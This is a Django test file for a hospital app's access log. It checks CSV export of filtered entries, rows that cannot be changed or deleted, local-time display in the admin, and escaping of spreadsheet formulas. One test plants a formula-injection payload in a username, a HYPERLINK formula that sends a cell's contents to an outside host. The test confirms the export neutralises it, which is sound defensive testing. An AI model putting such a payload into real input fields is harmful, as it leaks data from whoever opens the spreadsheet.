"""The access log as IT and an auditor use it: filtered, exported, unchangeable."""

import csv
import io

import pytest
from django.db import DatabaseError, transaction
from django.urls import reverse

from accounts.models import AccessLog
from tests.patients.test_pages import mrn, wards  # noqa: F401 - the fixture
from tests.printouts.test_views import person

pytestmark = pytest.mark.django_db


def test_it_exports_the_filtered_log_as_csv(client, wards):  # noqa: F811
    ward_a, ward_b = wards
    nurse = person("anne", "nurse", ward_a)
    client.force_login(nurse)
    client.get(reverse("patients:census", args=[ward_a.pk]))
    client.get(reverse("patients:census", args=[ward_b.pk]))  # denied
    it = person("ivan", "it")
    it.is_staff = it.is_superuser = True
    it.save()
    client.force_login(it)
    changelist = reverse("admin:accounts_accesslog_changelist")

    response = client.post(
        changelist + "?outcome__exact=denied",
        {
            "action": "export_csv",
            "select_across": "1",
            "index": "0",
            "_selected_action": list(AccessLog.objects.values_list("pk", flat=True)),
        },
    )

    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["username"], r["action"], r["outcome"]) for r in rows] == [
        ("anne", "census", "denied")
    ]
    assert rows[0]["at"].endswith("+00:00")  # UTC


def test_the_database_refuses_to_change_or_delete_a_log_row(client, wards):  # noqa: F811
    ward_a, _ward_b = wards
    client.force_login(person("anne", "nurse", ward_a))
    client.get(reverse("patients:patient", args=[mrn("MRN-4711")]))
    entry = AccessLog.objects.get()
    with pytest.raises(DatabaseError), transaction.atomic():
        AccessLog.objects.filter(pk=entry.pk).update(outcome="denied")
    with pytest.raises(DatabaseError), transaction.atomic():
        entry.delete()


def test_the_csv_export_writes_no_formula(client):
    """A name typed on a ward station reaches the export as it was typed:
    a spreadsheet must read it as text, not run it."""
    AccessLog.objects.create(
        username='=HYPERLINK("http://example.org/?"&A1,"open")',
        action=AccessLog.Action.STATION_OPEN,
        target="-2+3",
        outcome=AccessLog.Outcome.ALLOWED,
    )
    it = person("ivan", "it")
    it.is_staff = it.is_superuser = True
    it.save()
    client.force_login(it)

    response = client.post(
        reverse("admin:accounts_accesslog_changelist"),
        {
            "action": "export_csv",
            "_selected_action": list(AccessLog.objects.values_list("pk", flat=True)),
        },
    )

    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["username"] == '\'=HYPERLINK("http://example.org/?"&A1,"open")'
    assert row["target"] == "'-2+3"
    assert row["action"] == "station_open"


def test_the_admin_list_shows_local_times_and_says_nothing_of_utc(client, settings):
    import datetime as dt

    settings.TIME_ZONE = "Europe/Brussels"
    AccessLog.objects.create(
        at=dt.datetime(2026, 7, 1, 6, 30, tzinfo=dt.UTC),  # 08:30 in Brussels
        username="anne",
        action=AccessLog.Action.CENSUS,
        outcome=AccessLog.Outcome.ALLOWED,
    )
    it = person("ivan", "it")
    it.is_staff = it.is_superuser = True
    it.save()
    client.force_login(it)

    page = client.get(reverse("admin:accounts_accesslog_changelist")).content.decode()

    assert "UTC" not in page
    assert "8:30 a.m." in page
